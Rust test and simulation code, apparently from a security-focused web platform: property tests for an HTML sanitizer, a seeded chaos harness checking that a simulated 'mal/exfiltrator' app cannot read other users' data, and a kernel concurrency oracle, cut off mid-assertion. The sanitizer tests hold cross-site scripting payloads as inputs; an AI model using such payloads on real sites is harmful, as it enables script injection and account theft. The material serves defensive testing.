fn arb_fragment() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("<p>text</p>".to_string()),
        Just("<script>evil()</script>".to_string()),
        Just("<SCRIPT SRC=x>".to_string()),
        Just("<img src=x onerror=evil()>".to_string()),
        Just("<a href=\"javascript:evil()\">x</a>".to_string()),
        Just("<a href=\"java\tscript:evil()\">x</a>".to_string()),
        Just("<div".to_string()),                      // unterminated tag
        Just("</p>".to_string()),
        Just("<!-- <script> -->".to_string()),
        Just("plain & text < with > noise".to_string()),
        Just("<b onclick='x'".to_string()),            // broken attr
        Just("\"quotes' and = signs".to_string()),
        "[a-z<>/=\"' ]{0,24}",                          // junk soup
    ]
}

proptest! {
    /// No concatenation of fragments yields output with executable JS.
    #[test]
    fn output_never_contains_executable_js(
        parts in proptest::collection::vec(arb_fragment(), 0..16)
    ) {
        let input: String = parts.concat();
        let (output, _stats) = sanitize_html(&input);
        prop_assert!(
            !contains_executable_js(&output),
            "payload survived: {output:?} from {input:?}"
        );
    }

    /// Arbitrary unicode input never panics, and output JS-freedom holds.
    #[test]
    fn never_panics_on_arbitrary_input(input in ".{0,300}") {
        let (output, _stats) = sanitize_html(&input);
        prop_assert!(!contains_executable_js(&output));
    }

    /// Sanitizing is idempotent: a clean document stays byte-identical on
    /// the second pass.
    #[test]
    fn idempotent(parts in proptest::collection::vec(arb_fragment(), 0..12)) {
        let input: String = parts.concat();
        let (once, _) = sanitize_html(&input);
        let (twice, stats) = sanitize_html(&once);
        prop_assert_eq!(once, twice);
        prop_assert_eq!(stats.scripts_removed, 0);
    }

    /// Text with no markup at all passes through unchanged.
    #[test]
    fn plain_text_unchanged(input in "[a-zA-Z0-9 .,!?]{0,120}") {
        let (output, stats) = sanitize_html(&input);
        prop_assert_eq!(output, input);
        prop_assert_eq!(stats.total(), 0);
    }
}
