//! Deterministic chaos harness: a seeded workload with seeded fault
//! injection, checked against an independent policy oracle after every
//! step.
//!
//! The harness drives one platform in-process (no HTTP server, one
//! thread), with two guards installed:
//!
//! * a [`w5_chaos::Injector`] scoped to the thread, so every armed fault
//!   site rolls from one seeded stream, and
//! * a private [`w5_obs::Ledger`] scoped to the thread, so the run's event
//!   stream — and therefore its [`w5_obs::Ledger::digest`] — is untouched
//!   by anything else in the process.
//!
//! Determinism contract: same [`ChaosSpec`] → bit-identical
//! [`ChaosOutcome`] (same digest, same fault tallies, same
//! delivered/blocked/degraded counts). The whole run is a pure function of
//! two seeds. That is what makes every failure this harness finds
//! replayable.
//!
//! The invariants checked are the ones faults must never break:
//!
//! 1. **Noninterference** — a delivered body may contain user U's
//!    sentinel only if the oracle says the viewer is cleared for it at
//!    this moment; denial and degradation bodies carry no sentinel ever.
//! 2. **Zero-clearance observers recover nothing** — after the storm, an
//!    empty-clearance ledger view contains only unlabeled events and
//!    (when redacted) only quantized aggregates.
//! 3. **Fail closed** — a fault may turn success into refusal or a 503
//!    fault report, never refusal into disclosure.

use bytes::Bytes;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::sync::Arc;
use w5_obs::{Ledger, ObsLabel};
use w5_platform::{Account, GrantScope, Platform};

/// Applications in the workload; `mal/exfiltrator` actively attempts
/// cross-user reads.
const APPS: [&str; 4] = ["devA/photos", "devB/blog", "mal/exfiltrator", "devD/recommender"];

const USERS: usize = 5;

/// One chaos run: a workload seed, a length, and a storm rate applied to
/// every fault site.
#[derive(Clone, Copy, Debug)]
pub struct ChaosSpec {
    /// Seeds both the workload RNG and the fault plan.
    pub seed: u64,
    /// Workload steps to execute.
    pub steps: u32,
    /// Per-site injection probability (0.0 disables all faults).
    pub fault_rate: f64,
}

impl ChaosSpec {
    /// A spec with the default workload length and a moderate storm.
    pub fn new(seed: u64) -> ChaosSpec {
        ChaosSpec { seed, steps: 600, fault_rate: 0.08 }
    }
}

/// What a run produced. Two runs of the same spec must compare equal.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ChaosOutcome {
    /// FNV digest of the run's private ledger (event stream + counters).
    pub digest: u64,
    /// Invariant violations (empty on a healthy platform).
    pub violations: Vec<String>,
    /// Faults checked/injected per site.
    pub faults: w5_chaos::ChaosReport,
    /// Responses delivered with status 200.
    pub delivered: u32,
    /// Responses refused with status 403.
    pub blocked: u32,
    /// Responses degraded to 503 by injected faults.
    pub degraded: u32,
    /// Spans the run's tracer recorded (span structure is part of the
    /// digest; timestamps are not).
    pub spans: u64,
}

fn sentinel(u: usize) -> String {
    format!("SENTINEL-{u}-SECRET-PAYLOAD")
}

/// The independent policy oracle, mirroring every grant/revoke the
/// workload performs. Degradation is safe in one direction only: the
/// platform may deliver *less* than the oracle allows (a dropped friend
/// edge, an aborted grant), never more.
struct Oracle {
    friends_only: Vec<Vec<bool>>,
    public_read: Vec<Vec<bool>>,
    friends: Vec<Vec<bool>>,
}

impl Oracle {
    fn new() -> Oracle {
        Oracle {
            friends_only: vec![vec![false; APPS.len()]; USERS],
            public_read: vec![vec![false; APPS.len()]; USERS],
            friends: vec![vec![false; USERS]; USERS],
        }
    }

    fn allowed(&self, owner: usize, viewer: usize, app_ix: usize) -> bool {
        if owner == viewer {
            return true;
        }
        if self.public_read[owner][app_ix] {
            return true;
        }
        self.friends_only[owner][app_ix] && self.friends[owner][viewer]
    }
}

/// Run one chaos pass. Single-threaded and side-effect free outside its
/// own platform instance; safe to call from parallel tests.
pub fn run_chaos(spec: &ChaosSpec) -> ChaosOutcome {
    // Private ledger first: setup events are part of the digest too.
    let ledger = Arc::new(Ledger::new());
    let _obs_guard = w5_obs::scoped(Arc::clone(&ledger));

    // Build the world before arming faults so every run starts from the
    // same state; the storm begins at step 0.
    let p = Platform::new_default("chaos");
    w5_apps::install_all(&p);
    let accounts: Vec<Account> = (0..USERS)
        .map(|i| p.accounts.register(&format!("user{i}"), "pw").unwrap())
        .collect();
    for a in &accounts {
        for app in APPS {
            p.policies.delegate_write(a.id, app);
        }
    }
    for (i, a) in accounts.iter().enumerate() {
        let req = Platform::make_request(
            "POST",
            "post",
            &[("title", "diary"), ("body", &sentinel(i))],
            Some(a),
            Bytes::new(),
        );
        assert_eq!(p.invoke(Some(a), "devB/blog", req).status, 200);
        let subject = w5_store::Subject::new(
            w5_difc::LabelPair::public(),
            p.registry.effective(&a.owner_caps),
        );
        p.fs
            .create(
                &subject,
                &format!("/photos/{}/x", a.username),
                a.data_labels(),
                Bytes::from(sentinel(i)),
            )
            .unwrap();
    }

    let injector =
        w5_chaos::Injector::new(w5_chaos::FaultPlan::storm(spec.seed, spec.fault_rate));
    let _chaos_guard = w5_chaos::with_injector(Arc::clone(&injector));

    let mut oracle = Oracle::new();
    let mut rng = StdRng::seed_from_u64(spec.seed ^ 0x5745_4235); // "WEB5"
    let mut violations = Vec::new();
    let mut delivered = 0u32;
    let mut blocked = 0u32;
    let mut degraded = 0u32;

    for step in 0..spec.steps {
        match rng.gen_range(0..12) {
            // Policy mutations (the control plane runs trusted — grants
            // and revocations are not subject to injected faults, so the
            // oracle stays exact).
            0 => {
                let owner = rng.gen_range(0..USERS);
                let app_ix = rng.gen_range(0..APPS.len());
                p.policies.grant_declassifier(
                    accounts[owner].id,
                    "friends-only",
                    GrantScope::App(APPS[app_ix].into()),
                );
                oracle.friends_only[owner][app_ix] = true;
            }
            1 => {
                let owner = rng.gen_range(0..USERS);
                let app_ix = rng.gen_range(0..APPS.len());
                p.policies.grant_declassifier(
                    accounts[owner].id,
                    "public-read",
                    GrantScope::App(APPS[app_ix].into()),
                );
                oracle.public_read[owner][app_ix] = true;
            }
            2 => {
                let owner = rng.gen_range(0..USERS);
                p.policies.revoke_declassifier(accounts[owner].id, "friends-only");
                p.policies.revoke_declassifier(accounts[owner].id, "public-read");
                for x in 0..APPS.len() {
                    oracle.friends_only[owner][x] = false;
                    oracle.public_read[owner][x] = false;
                }
            }
            3 => {
                // add_friend rides on the SQL fault site: the platform
                // retries aborted statements internally and, past its
                // retry budget, drops the edge. The oracle marks the
                // friendship anyway — over-approximating what is allowed
                // can only hide violations the platform then fails to
                // commit, never invent one.
                let owner = rng.gen_range(0..USERS);
                let viewer = rng.gen_range(0..USERS);
                if owner != viewer && !oracle.friends[owner][viewer] {
                    p.add_friend(&accounts[owner].username, &accounts[viewer].username);
                    oracle.friends[owner][viewer] = true;
                }
            }
            // Fault-prone writes.
            4 => {
                // Re-post the diary through the blog app: exercises
                // kernel spawn + SQL under faults. The body is always the
                // owner's own sentinel, so content never changes what the
                // oracle must allow.
                let owner = rng.gen_range(0..USERS);
                let req = Platform::make_request(
                    "POST",
                    "post",
                    &[("title", "diary"), ("body", &sentinel(owner))],
                    Some(&accounts[owner]),
                    Bytes::new(),
                );
                let r = p.invoke(Some(&accounts[owner]), "devB/blog", req);
                tally(step, r.status, &r.body, &mut delivered, &mut blocked, &mut degraded, &mut violations);
            }
            5 => {
                // Rewrite the photo file: exercises the fs.write fault
                // site. An aborted write must leave the old sentinel
                // intact (checked globally by reads later in the run).
                let owner = rng.gen_range(0..USERS);
                let a = &accounts[owner];
                let subject = w5_store::Subject::new(
                    w5_difc::LabelPair::public(),
                    p.registry.effective(&a.owner_caps),
                );
                let _ = p.fs.write(
                    &subject,
                    &format!("/photos/{}/x", a.username),
                    Bytes::from(sentinel(owner)),
                );
            }
            // Reads through honest and malicious apps.
            _ => {
                let owner = rng.gen_range(0..USERS);
                let viewer = rng.gen_range(0..USERS);
                let (app_ix, action, params): (usize, &str, Vec<(String, String)>) =
                    match rng.gen_range(0..3) {
                        0 => (
                            1,
                            "read",
                            vec![
                                ("user".into(), accounts[owner].username.clone()),
                                ("title".into(), "diary".into()),
                            ],
                        ),
                        1 => (
                            2,
                            "steal",
                            vec![(
                                "path".into(),
                                format!("/photos/{}/x", accounts[owner].username),
                            )],
                        ),
                        _ => (
                            1,
                            "list",
                            vec![("user".into(), accounts[owner].username.clone())],
                        ),
                    };
                let param_refs: Vec<(&str, &str)> =
                    params.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
                let req = Platform::make_request(
                    "GET",
                    action,
                    &param_refs,
                    Some(&accounts[viewer]),
                    Bytes::new(),
                );
                let r = p.invoke(Some(&accounts[viewer]), APPS[app_ix], req);
                if r.status == 200 {
                    let body = String::from_utf8_lossy(&r.body);
                    for u in 0..USERS {
                        if body.contains(&sentinel(u)) && !oracle.allowed(u, viewer, app_ix) {
                            violations.push(format!(
                                "step {step}: viewer {viewer} received user {u}'s sentinel \
                                 via {} without authorization",
                                APPS[app_ix]
                            ));
                        }
                    }
                }
                tally(step, r.status, &r.body, &mut delivered, &mut blocked, &mut degraded, &mut violations);
            }
        }
    }

    // Fault reports are operator-facing but still label-scrubbed.
    for report in p.fault_reports() {
        if let Some(d) = &report.detail {
            if d.contains("SENTINEL") {
                violations.push(format!("fault report leaked a sentinel: {d}"));
            }
        }
    }

    // Zero-clearance observer: after the storm, an empty clearance must
    // see only unlabeled events, and (once anything was withheld) only
    // quantized aggregates.
    let zero = ledger.view(&ObsLabel::empty());
    for e in &zero.events {
        if !e.secrecy.is_subset(&ObsLabel::empty()) {
            violations.push(format!("zero-clearance view exposed labeled event seq {}", e.seq));
        }
        let kind = serde_json::to_string(&e.kind).unwrap_or_default();
        if kind.contains("SENTINEL") {
            violations.push(format!("zero-clearance view leaked a sentinel: {kind}"));
        }
    }
    if zero.redacted {
        for (layer, v) in zero.aggregate.events.iter().chain(zero.aggregate.denied.iter()) {
            if v % 16 != 0 {
                violations.push(format!(
                    "zero-clearance aggregate for {layer} is unquantized: {v}"
                ));
            }
        }
    }
    for (i, e) in zero.events.iter().enumerate() {
        if zero.redacted && e.seq != i as u64 {
            violations.push(format!(
                "redacted view has non-dense seq {} at index {i}",
                e.seq
            ));
            break;
        }
    }

    let faults = injector.report();
    ChaosOutcome {
        digest: ledger.digest(),
        violations,
        faults,
        delivered,
        blocked,
        degraded,
        spans: ledger.spans_recorded(),
    }
}

/// Classify one response and check the fail-closed body invariants.
#[allow(clippy::too_many_arguments)]
fn tally(
    step: u32,
    status: u16,
    body: &[u8],
    delivered: &mut u32,
    blocked: &mut u32,
    degraded: &mut u32,
    violations: &mut Vec<String>,
) {
    match status {
        200 => *delivered += 1,
        403 => {
            *blocked += 1;
            if String::from_utf8_lossy(body).contains("SENTINEL") {
                violations.push(format!("step {step}: denial body leaked a sentinel"));
            }
        }
        503 => {
            *degraded += 1;
            if String::from_utf8_lossy(body).contains("SENTINEL") {
                violations.push(format!("step {step}: degradation body leaked a sentinel"));
            }
        }
        _ => {
            if String::from_utf8_lossy(body).contains("SENTINEL") {
                violations.push(format!("step {step}: status-{status} body leaked a sentinel"));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn same_spec_same_outcome() {
        let spec = ChaosSpec { seed: 7, steps: 200, fault_rate: 0.1 };
        let a = run_chaos(&spec);
        let b = run_chaos(&spec);
        assert_eq!(a, b);
        assert!(a.violations.is_empty(), "{:?}", a.violations);
        assert!(a.faults.total_injected() > 0, "storm must actually fire");
    }

    #[test]
    fn tracing_replays_bit_identically() {
        // The private ledger head-samples everything by default, so the
        // storm records real spans — and the digest (which mixes span
        // structure but not wall-clock timestamps) must still replay
        // bit-identically from the seed.
        let spec = ChaosSpec { seed: 11, steps: 200, fault_rate: 0.1 };
        let a = run_chaos(&spec);
        let b = run_chaos(&spec);
        assert!(a.spans > 0, "tracing recorded nothing during the storm");
        assert_eq!(a.digest, b.digest, "span-bearing digests must replay");
        assert_eq!(a, b);
    }

    #[test]
    fn different_seeds_differ() {
        let a = run_chaos(&ChaosSpec { seed: 1, steps: 200, fault_rate: 0.1 });
        let b = run_chaos(&ChaosSpec { seed: 2, steps: 200, fault_rate: 0.1 });
        assert_ne!(a.digest, b.digest);
    }

    #[test]
    fn faultless_run_is_clean() {
        let a = run_chaos(&ChaosSpec { seed: 3, steps: 200, fault_rate: 0.0 });
        assert!(a.violations.is_empty(), "{:?}", a.violations);
        assert_eq!(a.faults.total_injected(), 0);
        assert_eq!(a.degraded, 0);
        assert!(a.delivered > 0);
    }
}
