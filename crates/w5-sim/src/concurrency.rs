//! Differential concurrency oracle for the sharded kernel.
//!
//! The sharded [`w5_kernel::Kernel`] claims to preserve, observable by
//! observable, the behavior of the single-lock
//! [`w5_kernel::ReferenceKernel`] it replaced. This module checks that
//! claim the only way that scales: replay the *same seeded operation
//! schedule* against both kernels — under real OS-thread interleavings
//! and serially — and compare everything a syscall client or an auditor
//! could see: per-process labels, capability bags, mailbox depths,
//! lifecycle states, flow-decision counters, obs-ledger aggregates, and
//! per-thread fault-injection reports.
//!
//! # Why the schedules are interleaving-invariant
//!
//! A differential test is only as good as its oracle, and a concurrent
//! oracle is only usable if the expected outcome does not depend on
//! which interleaving the scheduler happened to pick. The generated
//! schedules guarantee that by construction:
//!
//! * **Ownership** — thread `t` performs label changes, taints,
//!   capability edits, receives and spawns *only* on its own processes.
//!   Every per-process observable is therefore a pure function of one
//!   thread's deterministic op sequence.
//! * **Hubs** — the only cross-thread traffic is sends to per-thread
//!   "hub" processes whose labels never change (public, never tainted,
//!   never receive-drained). A send verdict depends on the sender's
//!   labels (own-thread-deterministic) and the hub's (constant), so
//!   every delivery/drop verdict — and thus every counter — is fixed
//!   before the threads even start. Only the *order* of messages in a
//!   hub mailbox is timing-dependent, so the oracle compares mailbox
//!   depths, not contents.
//! * **Per-thread chaos** — each thread carries its own
//!   [`w5_chaos::Injector`] (injector scopes are thread-local), so the
//!   fault stream each op sequence experiences is a pure function of
//!   `(seed, thread)` — identical between the concurrent run and the
//!   serial replay.
//! * **Pre-created tags** — all tags are created in single-threaded
//!   setup, so the shared [`w5_difc::TagRegistry`] allocates identical
//!   tag ids in every arm.
//!
//! Process *ids* are still racy (threads interleave allocations), which
//! is why the oracle keys state by process *name* and maps parent links
//! back to names.
//!
//! Serial replays additionally expose the run's private
//! [`w5_obs::Ledger::digest`]: with one thread the event stream itself
//! is deterministic, so reference-serial and sharded-serial must agree
//! bit-for-bit — the chaos-digest regression the tests pin.

use bytes::Bytes;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::collections::BTreeMap;
use std::collections::HashMap;
use std::sync::Arc;
use std::thread;
use w5_difc::{CapSet, Capability, Label, LabelPair, Privilege, Tag, TagKind, TagRegistry};
use w5_kernel::{
    Kernel, KernelStats, ProcessId, ReferenceKernel, ResourceLimits, SpawnSpec, Syscalls,
};
use w5_obs::Ledger;
use w5_sync::lockdep;

/// Per-thread process count at setup; op indices are taken modulo the
/// live list, which grows as the thread spawns children.
const PROCS_PER_THREAD: usize = 4;

/// One differential run: a schedule seed, a thread count, a length, a
/// storm rate for the kernel fault sites, and the shard count for the
/// sharded arm.
#[derive(Clone, Copy, Debug)]
pub struct ConcSpec {
    /// Seeds every thread's op stream and fault plan.
    pub seed: u64,
    /// Worker threads (the paper's "many users at once"); 2–8 in tests.
    pub threads: usize,
    /// Ops each thread executes.
    pub ops_per_thread: usize,
    /// Injection probability for `KernelSend`/`KernelSpawn` (0.0 = calm).
    pub fault_rate: f64,
    /// Shard count for the sharded kernel arm.
    pub shards: usize,
}

impl ConcSpec {
    /// A moderate default: 4 threads, 400 ops each, a light fault storm.
    pub fn new(seed: u64) -> ConcSpec {
        ConcSpec { seed, threads: 4, ops_per_thread: 400, fault_rate: 0.05, shards: 16 }
    }
}

/// Everything observable about one process at the end of a run, keyed by
/// audit name (pids are interleaving-dependent; names are not).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ProcState {
    /// Sorted raw secrecy tags.
    pub secrecy: Vec<u64>,
    /// Sorted raw integrity tags.
    pub integrity: Vec<u64>,
    /// Sorted `(tag, is_minus)` private capability bag.
    pub caps: Vec<(u64, bool)>,
    /// Lifecycle state, `Debug`-rendered.
    pub state: String,
    /// Queued messages.
    pub mailbox_len: usize,
    /// Parent's audit name, if spawned.
    pub parent: Option<String>,
}

/// The full observable outcome of one run. Two arms replaying the same
/// [`ConcSpec`] must compare equal, whatever the interleaving.
#[derive(Clone, Debug, PartialEq, Eq, Default)]
pub struct ConcOutcome {
    /// Final state of every process, by name.
    pub procs: BTreeMap<String, ProcState>,
    /// Kernel flow-decision counters.
    pub stats: KernelStats,
    /// Obs-ledger events recorded per layer (exact atomics).
    pub ledger_events: BTreeMap<String, u64>,
    /// Obs-ledger denials per layer (exact atomics).
    pub ledger_denied: BTreeMap<String, u64>,
    /// Per-thread fault-injection tallies, in thread order.
    pub faults: Vec<w5_chaos::ChaosReport>,
}

/// One step of a thread's schedule. All indices are taken modulo the
/// thread's live process list at execution time.
#[derive(Clone, Copy, Debug)]
enum Op {
    /// Send between two of the thread's own processes (flow verdict
    /// depends on both ends — both own-thread-deterministic).
    SendOwn { from: usize, to: usize },
    /// Send to another thread's hub (the only cross-thread traffic).
    SendHub { from: usize, hub: usize },
    /// Drain one message from an own process.
    Recv { who: usize },
    /// Taint an own process with the thread's tag (`t+` is global for
    /// `ExportProtect`).
    Taint { who: usize },
    /// Attempt declassification back to public; succeeds only while the
    /// process holds the thread's `t-`.
    Declass { who: usize },
    /// Spawn a child at the parent's current labels; the child joins the
    /// thread's process list.
    Spawn { from: usize },
    /// Shed the thread tag's `t-` from an own process.
    DropMinus { who: usize },
    /// Grant the thread tag's `t-` to an own process.
    GrantMinus { who: usize },
}

fn gen_ops(spec: &ConcSpec, t: usize) -> Vec<Op> {
    let mut rng = StdRng::seed_from_u64(
        spec.seed ^ (t as u64 + 1).wrapping_mul(0x9E37_79B9_7F4A_7C15),
    );
    (0..spec.ops_per_thread)
        .map(|_| match rng.gen_range(0..100u32) {
            0..=49 => Op::SendOwn { from: rng.gen_range(0..64), to: rng.gen_range(0..64) },
            50..=64 => Op::SendHub { from: rng.gen_range(0..64), hub: rng.gen_range(0..64) },
            65..=74 => Op::Recv { who: rng.gen_range(0..64) },
            75..=81 => Op::Taint { who: rng.gen_range(0..64) },
            82..=86 => Op::Declass { who: rng.gen_range(0..64) },
            87..=91 => Op::Spawn { from: rng.gen_range(0..64) },
            92..=95 => Op::DropMinus { who: rng.gen_range(0..64) },
            _ => Op::GrantMinus { who: rng.gen_range(0..64) },
        })
        .collect()
}

fn injector_for(spec: &ConcSpec, t: usize) -> Arc<w5_chaos::Injector> {
    w5_chaos::Injector::new(
        w5_chaos::FaultPlan::new(spec.seed ^ (t as u64 + 1).wrapping_mul(0xD6E8_FEB8_6659_FD93))
            .with(w5_chaos::Site::KernelSend, spec.fault_rate)
            .with(w5_chaos::Site::KernelSpawn, spec.fault_rate),
    )
}

/// One thread's working set: its tag, the global hub list, and its own
/// (name, pid) process list, which grows as it spawns.
struct ThreadCtx {
    t: usize,
    tag: Tag,
    hubs: Vec<ProcessId>,
    procs: Vec<(String, ProcessId)>,
    spawned: usize,
}

fn apply_ops<K: Syscalls>(k: &K, ctx: &mut ThreadCtx, ops: &[Op]) {
    let payload = Bytes::from_static(b"conc");
    for op in ops {
        match *op {
            Op::SendOwn { from, to } => {
                let f = ctx.procs[from % ctx.procs.len()].1;
                let to = ctx.procs[to % ctx.procs.len()].1;
                let _ = k.send(f, to, payload.clone(), CapSet::empty());
            }
            Op::SendHub { from, hub } => {
                let f = ctx.procs[from % ctx.procs.len()].1;
                let h = ctx.hubs[hub % ctx.hubs.len()];
                let _ = k.send(f, h, payload.clone(), CapSet::empty());
            }
            Op::Recv { who } => {
                let p = ctx.procs[who % ctx.procs.len()].1;
                let _ = k.recv(p);
            }
            Op::Taint { who } => {
                let p = ctx.procs[who % ctx.procs.len()].1;
                let data = LabelPair::new(Label::singleton(ctx.tag), Label::empty());
                let _ = k.taint_for_read(p, &data);
            }
            Op::Declass { who } => {
                let p = ctx.procs[who % ctx.procs.len()].1;
                let _ = k.change_labels(p, LabelPair::public());
            }
            Op::Spawn { from } => {
                let parent = ctx.procs[from % ctx.procs.len()].1;
                let Ok(labels) = k.labels(parent) else { continue };
                let name = format!("t{}.c{}", ctx.t, ctx.spawned);
                let spec = SpawnSpec {
                    name: name.clone(),
                    labels,
                    grant: CapSet::empty(),
                    limits: ResourceLimits::sandbox_default(),
                };
                if let Ok(pid) = k.spawn(parent, spec) {
                    ctx.procs.push((name, pid));
                    ctx.spawned += 1;
                }
            }
            Op::DropMinus { who } => {
                let p = ctx.procs[who % ctx.procs.len()].1;
                let mut c = CapSet::empty();
                c.insert(Capability::minus(ctx.tag));
                let _ = k.drop_caps(p, &c);
            }
            Op::GrantMinus { who } => {
                let p = ctx.procs[who % ctx.procs.len()].1;
                let mut c = CapSet::empty();
                c.insert(Capability::minus(ctx.tag));
                let _ = k.grant_caps(p, &c);
            }
        }
    }
}

/// Identical single-threaded setup for every arm: hubs, per-thread
/// processes, per-thread tags — so pid streams and registry tag ids
/// start out aligned.
fn setup<K: Syscalls>(k: &K, spec: &ConcSpec) -> Vec<ThreadCtx> {
    let hubs: Vec<ProcessId> = (0..spec.threads)
        .map(|t| {
            k.create_process(
                &format!("hub{t}"),
                LabelPair::public(),
                CapSet::empty(),
                ResourceLimits::unlimited(),
            )
        })
        .collect();
    (0..spec.threads)
        .map(|t| {
            let procs: Vec<(String, ProcessId)> = (0..PROCS_PER_THREAD)
                .map(|i| {
                    let name = format!("t{t}.p{i}");
                    let pid = k.create_process(
                        &name,
                        LabelPair::public(),
                        CapSet::empty(),
                        ResourceLimits::unlimited(),
                    );
                    (name, pid)
                })
                .collect();
            // p0 creates the thread's tag and so holds its `t-`; siblings
            // start without it (only Taint/Grant/Drop ops move it later).
            let tag = k
                .create_tag(procs[0].1, TagKind::ExportProtect, &format!("conc:t{t}"))
                .expect("fresh process can create a tag");
            ThreadCtx { t, tag, hubs: hubs.clone(), procs, spawned: 0 }
        })
        .collect()
}

fn collect<K: Syscalls>(
    k: &K,
    ledger: &Ledger,
    ctxs: &[ThreadCtx],
    faults: Vec<w5_chaos::ChaosReport>,
) -> ConcOutcome {
    let mut all: Vec<(String, ProcessId)> = Vec::new();
    for (t, ctx) in ctxs.iter().enumerate() {
        all.push((format!("hub{t}"), ctx.hubs[t]));
        all.extend(ctx.procs.iter().cloned());
    }
    let names: HashMap<ProcessId, String> =
        all.iter().map(|(n, p)| (*p, n.clone())).collect();
    let procs = all
        .iter()
        .map(|(name, pid)| {
            let info = k.process_info(*pid).expect("workload never reaps");
            let caps = k.caps(*pid).expect("workload never reaps");
            let mut bag: Vec<(u64, bool)> = caps
                .iter()
                .map(|c| (c.tag.raw(), c.privilege == Privilege::Minus))
                .collect();
            bag.sort_unstable();
            (
                name.clone(),
                ProcState {
                    secrecy: info.labels.secrecy.iter().map(Tag::raw).collect(),
                    integrity: info.labels.integrity.iter().map(Tag::raw).collect(),
                    caps: bag,
                    state: format!("{:?}", info.state),
                    mailbox_len: info.mailbox_len,
                    parent: info.parent.map(|p| names[&p].clone()),
                },
            )
        })
        .collect();
    let agg = ledger.aggregate();
    ConcOutcome {
        procs,
        stats: k.stats(),
        ledger_events: agg.events,
        ledger_denied: agg.denied,
        faults,
    }
}

/// Drive one kernel through the spec's schedule. `concurrent` selects
/// real OS threads vs. a serial replay of the same per-thread sequences.
/// Returns the outcome plus the private ledger's digest — meaningful for
/// comparison only between serial runs (ring/event *order* is
/// timing-dependent under threads; counts are not).
fn run_with<K: Syscalls + Clone>(
    k: &K,
    spec: &ConcSpec,
    concurrent: bool,
    context: Option<Box<lockdep::ContextFn>>,
) -> (ConcOutcome, u64) {
    assert!(spec.threads >= 1, "need at least one thread");
    // Private ledger first: setup events are part of the serial digest,
    // exactly like the chaos harness.
    let ledger = Arc::new(Ledger::new());
    let _obs_guard = w5_obs::scoped(Arc::clone(&ledger));
    // Private order graph second: every classed-lock acquisition this run
    // makes (setup, workers, teardown) lands here and is checked against
    // the declared manifest before the outcome is returned.
    let recorder = crate::lockgate::recorder(context);
    let _lock_guard = lockdep::scoped(Arc::clone(&recorder));

    let mut ctxs = setup(k, spec);
    let op_lists: Vec<Vec<Op>> = (0..spec.threads).map(|t| gen_ops(spec, t)).collect();
    let injectors: Vec<Arc<w5_chaos::Injector>> =
        (0..spec.threads).map(|t| injector_for(spec, t)).collect();

    let faults: Vec<w5_chaos::ChaosReport> = if concurrent {
        // Scoped ledgers are thread-local: capture this run's ledger and
        // re-install it inside every worker so their syscalls record here,
        // not into the process-global ledger.
        let handoff = w5_obs::current_scoped().expect("scoped ledger installed above");
        let lock_handoff = lockdep::current_scoped().expect("scoped recorder installed above");
        thread::scope(|s| {
            let handles: Vec<_> = ctxs
                .iter_mut()
                .zip(op_lists.iter())
                .zip(injectors.iter())
                .map(|((ctx, ops), inj)| {
                    let k = k.clone();
                    let handoff = Arc::clone(&handoff);
                    let lock_handoff = Arc::clone(&lock_handoff);
                    let inj = Arc::clone(inj);
                    s.spawn(move || {
                        let _obs = w5_obs::scoped(handoff);
                        let _lockdep = lockdep::scoped(lock_handoff);
                        let _chaos = w5_chaos::with_injector(Arc::clone(&inj));
                        apply_ops(&k, ctx, ops);
                        inj.report()
                    })
                })
                .collect();
            handles
                .into_iter()
                .map(|h| h.join().expect("worker thread panicked"))
                .collect()
        })
    } else {
        ctxs.iter_mut()
            .zip(op_lists.iter())
            .zip(injectors.iter())
            .map(|((ctx, ops), inj)| {
                // Fresh injector scope per thread segment: the fault
                // stream each sequence sees matches what its dedicated
                // thread saw in the concurrent run.
                let _chaos = w5_chaos::with_injector(Arc::clone(inj));
                apply_ops(k, ctx, ops);
                inj.report()
            })
            .collect()
    };

    let outcome = collect(k, &ledger, &ctxs, faults);
    recorder.note("harness", "concurrency");
    recorder.note("threads", &spec.threads.to_string());
    crate::lockgate::enforce(&recorder, "concurrency");
    (outcome, ledger.digest())
}

/// Sharded kernel under real thread interleavings.
pub fn run_sharded_concurrent(spec: &ConcSpec) -> ConcOutcome {
    let k = Kernel::with_shards(spec.shards, Arc::new(TagRegistry::new()));
    let ctx = stats_context(&k);
    run_with(&k, spec, true, Some(ctx)).0
}

/// Edge-context provider for the sharded arms: the kernel's relaxed-atomic
/// counter snapshot, serialized. Lock-free by construction (the provider
/// contract), so it can run in the middle of any acquisition.
fn stats_context(k: &Kernel) -> Box<lockdep::ContextFn> {
    let k = k.clone();
    Box::new(move || w5_obs::snapshot_json(&k).unwrap_or_default())
}

/// Single-lock reference kernel under real thread interleavings (the
/// trivially linearizable baseline).
pub fn run_reference_concurrent(spec: &ConcSpec) -> ConcOutcome {
    let k = ReferenceKernel::new(Arc::new(TagRegistry::new()));
    // No context provider: the reference kernel's stats live under the very
    // lock whose acquisitions are being recorded.
    run_with(&k, spec, true, None).0
}

/// Sharded kernel, serial replay. The digest covers the full private
/// event stream and is comparable against [`run_reference_serial`].
pub fn run_sharded_serial(spec: &ConcSpec) -> (ConcOutcome, u64) {
    let k = Kernel::with_shards(spec.shards, Arc::new(TagRegistry::new()));
    let ctx = stats_context(&k);
    run_with(&k, spec, false, Some(ctx))
}

/// Reference kernel, serial replay, with digest.
pub fn run_reference_serial(spec: &ConcSpec) -> (ConcOutcome, u64) {
    let k = ReferenceKernel::new(Arc::new(TagRegistry::new()));
    run_with(&k, spec, false, None)
}

/// The full four-arm differential check, used by tests and CI: sharded
/// concurrent ≡ reference concurrent ≡ reference serial ≡ sharded
/// serial, plus bit-identical serial digests. Panics with a labeled diff
/// on the first mismatch.
pub fn assert_differential(spec: &ConcSpec) {
    let (ref_serial, ref_digest) = run_reference_serial(spec);
    let (shard_serial, shard_digest) = run_sharded_serial(spec);
    assert_eq!(
        ref_serial, shard_serial,
        "serial replay diverged between reference and sharded kernels"
    );
    assert_eq!(
        ref_digest, shard_digest,
        "serial ledger digests diverged: the kernels emitted different event streams"
    );
    let shard_conc = run_sharded_concurrent(spec);
    assert_eq!(
        ref_serial, shard_conc,
